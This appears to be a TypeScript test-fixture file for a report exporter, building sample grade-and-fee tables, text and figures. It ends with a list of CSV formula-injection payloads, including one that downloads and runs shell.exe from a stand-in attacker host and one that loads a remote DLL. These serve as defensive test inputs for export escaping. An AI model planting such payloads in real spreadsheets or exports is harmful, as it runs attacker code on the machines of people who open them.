import type {
  Column,
  FieldType,
  FiguresSection,
  ReportDocument,
  Row,
  Section,
  TableSection,
  TextSection,
} from "../../../src/render/document";

/** A column labelled and named alike: `column("Fee", "number", "currency:USD")`. */
export function column(label: string, type: FieldType = "string", format?: string): Column {
  return { name: label.toLowerCase().replaceAll(" ", "_"), label, type, format };
}

export function sectionOf(
  title: string,
  columns: readonly Column[],
  rows: readonly Row[],
  more: Partial<TableSection> = {},
): TableSection {
  return {
    kind: "table",
    name: title.toLowerCase(),
    title,
    columns,
    rows_written: rows.length,
    rows_total: rows.length,
    truncated: false,
    summary_rows: 0,
    chart: null,
    // Batches of uneven sizes, some empty: sources may give any.
    async *rows() {
      for (let at = 0, size = 0; at < rows.length; at += size, size = (size + 1) % 4) {
        yield rows.slice(at, at + size);
      }
    },
    ...more,
  };
}

/** `count` rows made as they are asked for. */
export function generatedSection(
  title: string,
  columns: readonly Column[],
  count: number,
  row: (index: number) => Row,
): TableSection {
  return sectionOf(title, columns, [], {
    rows_written: count,
    rows_total: count,
    async *rows() {
      for (let at = 0; at < count; at += 1000) {
        yield Array.from({ length: Math.min(1000, count - at) }, (_, i) => row(at + i));
      }
    },
  });
}

export function documentOf(sections: readonly Section[], more: Partial<ReportDocument> = {}): ReportDocument {
  return {
    title: "Grades & fees",
    description: "All students of 2026",
    generated_at: "2026-11-21T09:31:07Z",
    time_zone: "Europe/Berlin",
    locale: "en-US",
    filters: [{ label: "Grade", text: "between 60 and 100" }],
    sections,
    ...more,
  };
}

/** A table with a subtotal for each class and a grand total: 3 data rows, 3 rows of sums. */
export const SUMMED: TableSection = sectionOf(
  "Fees",
  [column("Class"), column("Name"), column("Fee", "number", "currency:EUR"), column("On", "date")],
  [
    ["7A", "Ada", 10, "2026-01-01"],
    ["7A", "Alan", 20, "2026-01-02"],
    ["7A", null, 30, null, 1],
    ["7B", "Grace", 5.5, "2026-01-03"],
    ["7B", null, 5.5, null, 1],
    [null, null, 35.5, null, 0],
  ],
  { rows_written: 3, rows_total: 3, summary_rows: 3 },
);

export const SUMMARY: TextSection = {
  kind: "text",
  name: "summary",
  title: "Summary",
  text: "Grades <rose>.\nAgain.\n\nLook at:\n- 7B & 7C\n- 王小明",
};

export const FIGURES: FiguresSection = {
  kind: "figures",
  name: "key",
  title: "Key figures",
  description: "At a glance",
  figures: [
    { label: "Students", name: "students", value: 12_345, type: "integer" },
    { label: "Late", name: "late", value: 0.125, type: "number", format: "percent" },
    { label: "Average", name: "average", value: 81.235294117, type: "number" },
    { label: "Best", name: "best", value: "王小明", type: "string" },
  ],
};

/**
 * The lines of payloadbox/csv-injection-payloads (MIT licence): texts that spreadsheets have run as
 * formulas or commands.
 */
export const CSV_INJECTIONS = [
  `DDE ("cmd";"/C calc";"!A0")A0`,
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
];
